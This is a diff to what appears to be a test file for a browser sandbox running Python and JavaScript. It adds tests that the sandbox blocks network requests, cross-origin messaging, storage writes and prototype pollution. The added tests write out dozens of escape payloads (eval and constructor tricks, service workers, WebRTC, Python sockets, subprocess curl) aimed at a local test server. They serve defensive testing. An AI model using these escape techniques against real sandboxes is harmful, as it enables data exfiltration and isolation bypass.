@@ -75,6 +75,8 @@ test('an endless loop meets its limit by itself', async () => {
 test('a call that never returns to the interpreter is ended by the watchdog', async () => {
   const report = await run('x = 1\nsum(iter(int, 1))', { maxSeconds: 1 });
   expect(report.end).toEqual({ reason: 'time-limit', seconds: 1 });
+  // Both lines, though nothing more is heard of the program after its first moment.
+  expect(report.records).toBeGreaterThanOrEqual(2);
   await expectUsable();
 });
 
@@ -93,6 +95,7 @@ for (const [name, source] of [
   test(`${name}: the run ends, the next one works`, async () => {
     const report = await run(source, { maxSeconds: 5 });
     expect(['interpreter-died', 'exception']).toContain(report.end.reason);
+    expect(report.records).toBeGreaterThanOrEqual(2);
     await expectUsable();
   });
 }
@@ -117,6 +120,17 @@ test('no request leaves the sandbox', async () => {
     `navigator.sendBeacon('${away}?beacon')`,
     `location.href = '${away}?navigate'`,
     `new Function("fetch('${away}?function')")()`,
+    `(() => 0).constructor("fetch('${away}?constructor')")()`,
+    `(0, eval)("fetch('${away}?eval')")`,
+    `setTimeout("fetch('${away}?timer')", 0)`,
+    `import('data:text/javascript,fetch(%22${away}?dataModule%22)').catch(() => 0)`,
+    `new SharedWorker('${away}?shared')`,
+    `caches.open('x').then((cache) => cache.add('${away}?cache')).catch(() => 0)`,
+    `new RTCPeerConnection({iceServers: [{urls: 'stun:${site.foreign.origin.replace('http://', '')}'}]}).createOffer()`,
+    `navigator.serviceWorker.register('${away}?serviceWorker').catch(() => 0)`,
+    `self.registration.backgroundFetch.fetch('x', '${away}?background')`,
+    `fetch(new Request('${away}?noCors', {mode: 'no-cors', credentials: 'include'})).catch(() => 0)`,
+    `const late = () => fetch('${away}?late').catch(() => 0); setTimeout(late, 1); Promise.resolve().then(late)`,
   ];
   const before = site.own.log.length;
   for (const attack of attacks) {
@@ -128,6 +142,14 @@ test('no request leaves the sandbox', async () => {
     `from pyodide.http import open_url\nopen_url('${away}?openUrl')`,
     `from pyodide.http import pyfetch\npyfetch('${away}?pyfetch').send(None)`,
     `import ctypes\nctypes.pythonapi.emscripten_run_script(b"fetch('${away}?runScript')")`,
+    `from pyodide.code import run_js\nrun_js("fetch('${away}?runJs')")`,
+    `import js\njs.self.constructor.constructor("fetch('${away}?pythonConstructor')")()`,
+    `import js\nrequest = js.XMLHttpRequest.new()\nrequest.open('GET', '${away}?pythonXhr', False)\nrequest.send()`,
+    `import socket\nsocket.create_connection(('127.0.0.1', ${new URL(site.foreign.origin).port}), 2).send(b'GET /leak?socket HTTP/1.0\\r\\n\\r\\n')`,
+    `import http.client\nhttp.client.HTTPConnection('127.0.0.1', ${new URL(site.foreign.origin).port}, timeout=2).request('GET', '/leak?http')`,
+    `import asyncio\nasyncio.run(asyncio.open_connection('127.0.0.1', ${new URL(site.foreign.origin).port}))`,
+    `import webbrowser\nwebbrowser.open('${away}?webbrowser')`,
+    `import subprocess\nsubprocess.run(['curl', '${away}?subprocess'])`,
     `import urllib.request\nurllib.request.urlopen('${away}?urllib')`,
     `from pyodide_js import loadPackage\nloadPackage('${away}?package.whl')`,
     `import js\njs.fetch('${site.own.origin}/leak?own')`,
@@ -138,6 +160,53 @@ test('no request leaves the sandbox', async () => {
   await page.evaluate((url) => fetch(url), `${away}?control`);
   expect(site.foreign.log).toEqual(['/leak?control']);
   expect(site.own.log.slice(before)).toEqual([]);
+});
+
+test('nothing reaches the page by channels that it shares with others of its origin, and nothing in it changes', async () => {
+  await page.evaluate(() => {
+    const heard: unknown[] = [];
+    Object.assign(window, { heard });
+    new BroadcastChannel('tracepad').onmessage = (event) => heard.push(event.data);
+    window.addEventListener('message', (event) => heard.push(event.data));
+    localStorage.setItem('kept', 'yes');
+  });
+  const before = await page.content();
+  for (const attack of [
+    `new BroadcastChannel('tracepad').postMessage('broadcast')`,
+    `indexedDB.open('left').onsuccess = () => 0`,
+    `caches.open('left').then((cache) => cache.put('https://x.test/', new Response('x'))).catch(() => 0)`,
+    `navigator.storage.getDirectory().then((root) => root.getFileHandle('left', {create: true})).catch(() => 0)`,
+    `navigator.locks.request('left', () => new Promise(() => 0)).catch(() => 0)`,
+    `postMessage('scripts-loaded'); postMessage({kind: 'launched', worker: 1}); postMessage({kind: 'worker-error', worker: 1, message: 'x'})`,
+    `for (const client of [self.parent, self.opener, self.top, self.frames]) client?.postMessage('up', '*')`,
+    `Object.prototype.polluted = 1; Array.prototype.push = () => { throw new Error('no') }`,
+  ]) {
+    const report = await run(asJavaScript(`try { ${attack} } catch (error) {}`));
+    expect(['finished', 'interpreter-died']).toContain(report.end.reason);
+  }
+  await expectUsable();
+  expect(await page.content()).toBe(before);
+  const seen = await page.evaluate(async () => {
+    const names: string[] = [];
+    for await (const name of (await navigator.storage.getDirectory()).keys()) names.push(name);
+    return {
+      heard: (window as unknown as { heard: unknown[] }).heard,
+      databases: (await indexedDB.databases()).map(({ name }) => name),
+      caches: await caches.keys(),
+      names,
+      locks: (await navigator.locks.query()).held?.map(({ name }) => name),
+      kept: localStorage.getItem('kept'),
+      polluted: 'polluted' in {},
+    };
+  });
+  expect(seen).toEqual({ heard: [], databases: [], caches: [], names: [], locks: [], kept: 'yes', polluted: false });
+});
+
+test('a worker that a program has closed is replaced', async () => {
+  await run(asJavaScript('self.close()'), { maxSeconds: 1 });
+  // Whether the closed worker is found out by its own run or by the next one, the one after that runs.
+  await run('x = 1', { maxSeconds: 1 });
+  await expectUsable();
 });
 
 test('nothing is stored, and nothing of the page can be reached', async () => {
